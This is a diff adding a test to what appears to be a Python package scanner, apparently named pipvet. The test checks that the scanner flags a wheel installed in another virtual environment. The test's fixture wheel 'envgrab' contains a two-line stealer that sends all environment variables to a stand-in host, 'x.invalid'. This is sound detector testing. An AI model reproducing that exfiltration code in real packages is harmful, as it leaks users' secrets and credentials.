@@ -267,6 +267,35 @@ def test_installed_distribution_is_read_from_its_record(capsys):
     assert scan_inputs(items, use_cache=False)[0].findings == ()
 
 
+def test_installed_distribution_of_another_environment(tmp_path, capsys):
+    from tests.support.index_builder import build_wheel
+
+    venv = tmp_path / "venv"
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
+    stealer = (
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('https://x.invalid', data=str(os.environ).encode())\n"
+    )
+    filename, data, _ = build_wheel("envgrab", "1.0", files={"envgrab/__init__.py": stealer})
+    wheel = tmp_path / filename
+    wheel.write_bytes(data)
+    # pip installs the wheel (it runs no code of a wheel) into the other venv
+    subprocess.run(
+        [sys.executable, "-m", "pip", "--python", str(venv / "bin" / "python"), "install",
+         "-q", "--no-index", "--no-deps", str(wheel)],
+        check=True,
+    )  # fmt: skip
+    code, doc = run_json(capsys, "--installed", "envgrab", "--python", str(venv))
+    (art,) = doc["artifacts"]
+    assert art["name"] == "envgrab" and art["verdict"] == "malicious" and code == 1
+    assert any(f["path"] == "envgrab/__init__.py" for f in art["findings"])
+    # pipvet's own environment does not have it; --python without --installed is a usage error
+    assert main(["scan", "--installed", "envgrab"]) == 2
+    assert main(["scan", "--python", str(venv), str(wheel)]) == 2
+    err = capsys.readouterr().err
+    assert "envgrab is not installed" in err and "--python goes with --installed" in err
+
+
 def test_odd_code_gives_no_warnings_on_stderr(tmp_path):
     # pytest swallows warnings, so run the real command in its own process
     art = write_sdist(tmp_path / "odd-1.0.tar.gz", {"odd-1.0/odd.py": "x = 1if 1 else 2\n"})
